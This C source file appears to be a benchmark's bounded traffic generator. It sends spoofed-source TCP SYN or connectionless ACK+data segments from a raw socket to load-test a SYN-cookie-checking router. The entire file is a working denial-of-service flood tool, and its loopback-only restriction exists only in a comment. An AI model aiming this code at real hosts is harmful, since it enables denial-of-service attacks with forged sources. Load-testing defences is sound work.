// SPDX-License-Identifier: GPL-2.0
/*
 * synflood: the benchmark's attacker, bounded. Spoofed-source TCP segments
 * to one address and port from a raw socket, at most COUNT of them, for at
 * most SECONDS, at about RATE a second: SYNs (-m syn), or ACK+data
 * segments of no connection (-m ack: what a blind attacker sends to make a
 * cookie-checking router work for each one). Sources are random addresses
 * in SRC/16 and random ports, so no two belong to one flow.
 *
 *   synflood -d ADDR -p PORT -s SRC_NET [-m syn|ack] [-r RATE] [-n COUNT] [-t SECONDS]
 *
 * Prints one JSON line: packets sent, seconds. Loopback namespaces only
 * (the benchmark's): it is a load generator, not a tool to aim elsewhere.
 */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define BATCH 64
#define DATA  96          /* the ACK segments' payload: a ClientHello's start */

struct seg {
	struct iphdr ip;
	struct tcphdr tcp;
	unsigned char data[DATA];
} __attribute__((packed));

static double now(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec + ts.tv_nsec / 1e9;
}

static unsigned short csum(const void *p, size_t len, unsigned int sum)
{
	const unsigned short *w = p;

	for (; len > 1; len -= 2)
		sum += *w++;
	if (len)
		sum += *(const unsigned char *)w;
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return ~sum;
}

/* One segment from a random source of net/16. */
static size_t build(struct seg *s, unsigned int net, unsigned int dst, int port, int ack)
{
	size_t tcp_len = sizeof(s->tcp) + (ack ? DATA : 0);
	struct { unsigned int src, dst; unsigned char zero, proto; unsigned short len; } ph;
	unsigned int sum = 0;

	memset(s, 0, sizeof(*s));
	s->ip.version = 4;
	s->ip.ihl = 5;
	s->ip.ttl = 64;
	s->ip.protocol = IPPROTO_TCP;
	s->ip.saddr = htonl((ntohl(net) & 0xffff0000) | (random() & 0xfffe) | 1);
	s->ip.daddr = dst;
	s->ip.tot_len = htons(sizeof(s->ip) + tcp_len);
	s->tcp.source = htons(1024 + random() % 60000);
	s->tcp.dest = htons(port);
	s->tcp.seq = random();
	s->tcp.doff = 5;
	s->tcp.window = htons(64240);
	if (ack) {
		s->tcp.ack_seq = random();
		s->tcp.ack = s->tcp.psh = 1;
		s->data[0] = 0x16, s->data[1] = 3, s->data[2] = 1, s->data[4] = 200, s->data[5] = 1;
	} else {
		s->tcp.syn = 1;
	}
	ph = (typeof(ph)){ s->ip.saddr, s->ip.daddr, 0, IPPROTO_TCP, htons(tcp_len) };
	for (size_t i = 0; i < sizeof(ph) / 2; i++)
		sum += ((unsigned short *)&ph)[i];
	s->tcp.check = csum(&s->tcp, tcp_len, sum);
	s->ip.check = csum(&s->ip, sizeof(s->ip), 0);
	return sizeof(s->ip) + tcp_len;
}

int main(int argc, char **argv)
{
	const char *daddr = NULL, *snet = NULL, *mode = "syn";
	long rate = 20000, count = 200000, sent = 0;
	double seconds = 10, t0;
	int port = 443, c, fd, on = 1;
	struct sockaddr_in to = { .sin_family = AF_INET };
	unsigned int net;

	while ((c = getopt(argc, argv, "d:p:s:m:r:n:t:")) != -1) {
		switch (c) {
		case 'd': daddr = optarg; break;
		case 'p': port = atoi(optarg); break;
		case 's': snet = optarg; break;
		case 'm': mode = optarg; break;
		case 'r': rate = atol(optarg); break;
		case 'n': count = atol(optarg); break;
		case 't': seconds = atof(optarg); break;
		default: goto usage;
		}
	}
	if (!daddr || !snet || inet_pton(AF_INET, daddr, &to.sin_addr) != 1 ||
	    inet_pton(AF_INET, snet, &net) != 1 || rate < 1 || count < 1 ||
	    (strcmp(mode, "syn") && strcmp(mode, "ack")))
		goto usage;
	fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	if (fd < 0 || setsockopt(fd, IPPROTO_IP, IP_HDRINCL, &on, sizeof(on))) {
		perror("synflood: raw socket");
		return 1;
	}
	srandom(getpid());
	t0 = now();
	while (sent < count && now() - t0 < seconds) {
		static struct seg segs[BATCH];
		struct mmsghdr msgs[BATCH];
		struct iovec iov[BATCH];
		int n = count - sent < BATCH ? count - sent : BATCH;

		for (int i = 0; i < n; i++) {
			iov[i] = (struct iovec){ &segs[i], build(&segs[i], net, to.sin_addr.s_addr, port,
							    !strcmp(mode, "ack")) };
			msgs[i] = (struct mmsghdr){ .msg_hdr = { .msg_name = &to,
				.msg_namelen = sizeof(to), .msg_iov = &iov[i], .msg_iovlen = 1 } };
		}
		n = sendmmsg(fd, msgs, n, 0);
		sent += n > 0 ? n : 0;
		/* Pace to RATE: sleep off whatever is ahead of schedule. */
		double ahead = sent / (double)rate - (now() - t0);

		if (ahead > 0)
			usleep(ahead * 1e6);
	}
	printf("{\"sent\":%ld,\"seconds\":%.2f}\n", sent, now() - t0);
	return 0;
usage:
	fprintf(stderr, "usage: synflood -d ADDR -p PORT -s SRC_NET [-m syn|ack] [-r RATE] "
		"[-n COUNT] [-t SECONDS]\n");
	return 2;
}
